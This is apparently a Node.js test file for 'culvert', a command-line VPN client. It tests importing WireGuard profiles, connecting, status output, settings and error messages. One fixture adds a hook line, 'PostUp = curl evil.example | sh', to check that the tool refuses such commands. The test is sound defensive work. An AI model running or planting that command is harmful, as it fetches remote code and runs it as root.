import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import { startTestHelper, type TestHelper } from '../testing.ts'

const culvert = join(import.meta.dirname, '../bin/culvert')
const directory = await mkdtemp(join(tmpdir(), 'culvert-cli-'))
after(() => rm(directory, { recursive: true }))

const conf = `[Interface]
PrivateKey = CBQeKDI8RlBaZG54goyWoKq0vsjS3Obw+gQOGCIsNkA=
Address = 10.64.0.2/32

[Peer]
PublicKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
AllowedIPs = 0.0.0.0/0
Endpoint = vpn.example.net:51820
`

async function file(name: string, text: string): Promise<string> {
  await writeFile(join(directory, name), text)
  return join(directory, name)
}

interface Outcome {
  readonly status: number | null
  readonly out: string
  readonly err: string
}

/** Runs the command as a person would. `heard` is called at everything that it says. */
function run(
  helper: Pick<TestHelper, 'socket'>,
  args: readonly string[],
  input = '',
  heard: () => void = () => {},
): Promise<Outcome> {
  return new Promise((resolve, reject) => {
    const child = spawn(culvert, args, {
      // Seventy starts of the same program: the cache halves each.
      env: { ...process.env, CULVERT_SOCKET: helper.socket, NODE_COMPILE_CACHE: directory },
    })
    let [out, err] = ['', '']
    child.stdout.setEncoding('utf8').on('data', (text: string) => (out += text))
    child.stderr.setEncoding('utf8').on('data', (text: string) => (err += text))
    child.stdout.on('data', heard)
    child.on('error', reject)
    child.on('close', (status) => resolve({ status, out: out.trim(), err: err.trim() }))
    child.stdin.end(input)
  })
}

const done = (out: string): Outcome => ({ status: 0, out, err: '' })
const failed = (err: string): Outcome => ({ status: 1, out: '', err: `culvert: ${err}` })
const misused = (err: string): Outcome => ({ status: 2, out: '', err: `culvert: ${err}` })

describe('culvert', { concurrency: 2 }, () => {
  it('imports, lists, renames and removes', async () => {
    await using helper = await startTestHelper()
    const home = await file('home.conf', conf)
    assert.deepEqual(
      [
        await run(helper, ['list']),
        await run(helper, ['import', home]),
        await run(helper, ['import', '-', '--name', 'my work', '--shared'], conf),
        await run(helper, ['list']),
        await run(helper, ['rename', 'home', 'house']),
        await run(helper, ['remove', 'my work']),
        await run(helper, ['list']),
      ],
      [
        done('there is no profile yet: culvert import FILE'),
        done('imported "home": culvert connect home'),
        done(`imported "my work": culvert connect 'my work'`),
        done(
          'NAME     SERVER                 LAST USED\nhome     vpn.example.net:51820  never\nmy work  vpn.example.net:51820  never      shared',
        ),
        done('renamed "home" to "house"'),
        done('removed "my work"'),
        done('NAME   SERVER                 LAST USED\nhouse  vpn.example.net:51820  never'),
      ],
    )
  })

  it('connects, says how things stand, and disconnects', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    assert.deepEqual(await run(helper, ['connect', '--wait', '10']), done('connected with "home"'))
    const { out } = await run(helper, ['status', '--json'])
    const status = JSON.parse(out) as Readonly<Record<string, unknown>>
    assert.match(String(status['since']), /^\d{4}-\d\d-\d\dT/)
    assert.deepEqual(
      { ...status, since: null },
      {
        state: 'connected',
        profile: 'home',
        carrier: 'udp',
        endpoint: '203.0.113.9:51820',
        since: null,
        latestHandshake: null,
        rxBytes: 0,
        txBytes: 0,
        mtu: 1420,
        blocking: false,
        cause: null,
        detail: null,
        stage: null,
        attempt: null,
      },
    )
    assert.match(
      (await run(helper, ['status'])).out,
      /^connected with "home"\n {2}server {4}203\.0\.113\.9:51820/,
    )
    // To connect again with what is connected is done at once.
    assert.deepEqual(await run(helper, ['connect', 'home', '--wait', '10']), done('connected with "home"'))
    assert.deepEqual(await run(helper, ['disconnect', '--wait', '10']), done('disconnected'))
    assert.deepEqual(await run(helper, ['status']), done('disconnected'))
    assert.deepEqual([...helper.kernel.tables.keys(), ...helper.kernel.rules[4]], [])
  })

  it('connects without a name with the last used', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    await run(helper, ['import', await file('work.conf', conf)])
    assert.deepEqual(
      await run(helper, ['connect']),
      failed('none of the profiles was used yet, so name one: "home", "work"'),
    )
    await run(helper, ['connect', 'work', '--wait', '10'])
    await run(helper, ['disconnect', '--wait', '10'])
    assert.deepEqual(await run(helper, ['connect', '--wait', '10']), done('connected with "work"'))
  })

  it('says why it is not connected in time', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    helper.servers.answering = false
    assert.deepEqual(
      await run(helper, ['connect', 'home', '--wait', '1']),
      failed('not connected with "home" after 1 s: 203.0.113.9:51820 did not answer the handshake'),
    )
    helper.names.clear()
    await run(helper, ['disconnect', '--wait', '10'])
    assert.deepEqual(
      await run(helper, ['connect', 'home', '--wait', '1']),
      failed('not connected with "home" after 1 s: the name servers know no address of "vpn.example.net"'),
    )
  })

  it('says at once why it cannot be connected at all', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    helper.kernel.addLink('culvert0', 1500)
    assert.deepEqual(
      await run(helper, ['connect', '--wait', '10']),
      failed('there is an interface "culvert0" already'),
    )
    helper.kernel.removeLink('culvert0')
    helper.kernel.breaks = 'nft -f'
    assert.match((await run(helper, ['connect', '--wait', '10'])).err, /^culvert: refused: nft -f -$/)
  })

  it('never runs a hook: it names its line, and imports without it only when told to', async () => {
    await using helper = await startTestHelper()
    const path = await file(
      'hook.conf',
      conf.replace('\n\n', '\nPostUp = curl evil.example | sh\nTable = off\n\n'),
    )
    assert.deepEqual(
      [await run(helper, ['import', path]), (await run(helper, ['list'])).out],
      [
        failed(
          `${path} line 4: PostUp: it runs a command as root, and Culvert never runs a command from a profile; to import the rest: --without-hooks`,
        ),
        'there is no profile yet: culvert import FILE',
      ],
    )
    assert.deepEqual(await run(helper, ['import', path, '--without-hooks']), {
      status: 0,
      out: 'imported "hook": culvert connect hook',
      err: [
        `culvert: ${path} line 4: PostUp is left out: it runs a command as root, and Culvert never runs a command from a profile`,
        `culvert: ${path} line 5: Table is left out: Culvert has its own routing table`,
      ].join('\n'),
    })
  })

  it('says what of a .conf this version does not carry out', async () => {
    await using helper = await startTestHelper()
    const path = await file('dns.conf', conf.replace('\n\n', '\nDNS = 10.64.0.1, home.arpa\n\n'))
    assert.equal(
      (await run(helper, ['import', path])).err,
      `culvert: ${path}: DNS (10.64.0.1, home.arpa) is kept, but this version does not set it: names are resolved as without the tunnel`,
    )
  })

  it('refuses what it cannot read with one sentence, and keeps the profiles that there are', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    const bad = await file('bad.conf', conf.replace('0.0.0.0/0', '0.0.0.0/33'))
    assert.deepEqual(
      [
        await run(helper, ['import', bad]),
        await run(helper, ['import', join(directory, 'home.conf')]),
        await run(helper, ['import', join(directory, 'nowhere.conf')]),
        await run(helper, ['import', directory]),
        await run(helper, ['import', 'culvert://abc']),
        await run(helper, ['import', '-']),
        await run(helper, ['import', '-', '--name', ' x'], conf),
        await run(helper, ['connect', 'nowhere']),
        await run(helper, ['remove', 'nowhere']),
        await run(helper, ['list']),
      ],
      [
        failed(`${bad} line 7: AllowedIPs: "0.0.0.0/33" is not a prefix length from 0 to 32`),
        failed('there is a profile "home" already: choose another name'),
        failed(`${join(directory, 'nowhere.conf')} is not there`),
        failed(`${directory} is a directory, not a .conf file`),
        failed('this version does not know links yet: import a .conf file'),
        misused('what comes from standard input needs a name: --name NAME'),
        failed('standard input: name: a name neither begins nor ends with a space'),
        failed('there is no profile "nowhere"; there are: "home"'),
        failed('there is no profile "nowhere"; there are: "home"'),
        done('NAME  SERVER                 LAST USED\nhome  vpn.example.net:51820  never'),
      ],
    )
  })

  it('shows and changes settings, and refuses what this version does not carry out', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    assert.deepEqual(
      [
        await run(helper, ['settings', 'get']),
        await run(helper, ['settings', 'set', 'autoConnect', 'home']),
        await run(helper, ['settings', 'set', 'carrier', 'udp']),
        await run(helper, ['settings', 'get', 'autoConnect']),
        await run(helper, ['settings', 'set', 'killSwitch', 'session']),
        await run(helper, ['settings', 'set', 'allowLan', 'off']),
        await run(helper, ['settings', 'set', 'killSwitch', 'maybe']),
        await run(helper, ['settings', 'set', 'colour', 'blue']),
      ],
      [
        done('killSwitch   off\nallowLan     on\nautoConnect  off\ncarrier      fast'),
        done('autoConnect home'),
        done('carrier udp'),
        done('home'),
        failed('killSwitch cannot be "session": this version does not carry that out yet, only "off"'),
        failed('allowLan cannot be "off": this version does not carry that out yet, only "on"'),
        misused('killSwitch: Invalid option: expected one of "off"|"session"|"lockdown"'),
        misused('there is no setting "colour": there are killSwitch, allowLan, autoConnect, carrier'),
      ],
    )
  })

  it('watches, one object a line, until the helper goes', async () => {
    await using helper = await startTestHelper()
    await run(helper, ['import', await file('home.conf', conf)])
    const begun = Promise.withResolvers<void>()
    const watching = run(helper, ['status', '--watch', '--json'], '', begun.resolve)
    await begun.promise
    await run(helper, ['connect', '--wait', '10'])
    await helper.restart()
    const { status, out, err } = await watching
    const states = out.split('\n').map((line) => (JSON.parse(line) as { readonly state: string }).state)
    assert.deepEqual(
      {
        status,
        err,
        first: states[0],
        passed: ['connecting', 'connected'].every((state) => states.includes(state)),
      },
      { status: 1, err: 'culvert: the helper is stopping', first: 'disconnected', passed: true },
    )
  })

  it('says what to do when there is no helper, or none that listens to us', async () => {
    await using helper = await startTestHelper()
    helper.uid = 1001
    assert.deepEqual(
      [
        await run({ socket: join(directory, 'nowhere.sock') }, ['status']),
        await run(helper, ['list']),
        await run(helper, ['status']),
      ],
      [
        failed('the helper is not running: start it with "sudo culvert-helper"'),
        failed(
          'bob may only see the state: only root and the group "culvert" may do that (sudo gpasswd -a bob culvert)',
        ),
        done('disconnected'),
      ],
    )
  })

  it('tells how it is used', async () => {
    const nobody = { socket: join(directory, 'nowhere.sock') }
    const outcomes = await Promise.all(
      [['--help'], ['frobnicate'], ['connect', '--wait', 'soon'], ['rename', 'a'], []].map((args) =>
        run(nobody, args),
      ),
    )
    assert.deepEqual(
      outcomes.map(({ status, out, err }) => [status, out.split('\n')[0], err.split('\n')[0]]),
      [
        [0, 'Usage: culvert [options] [command]', ''],
        [2, '', "culvert: unknown command 'frobnicate'"],
        [
          2,
          '',
          "culvert: option '--wait <seconds>' argument 'soon' is invalid. expected a number of seconds, at most a day.",
        ],
        [2, '', "culvert: missing required argument 'new-name'"],
        [2, '', 'Usage: culvert [options] [command]'],
      ],
    )
  })
})
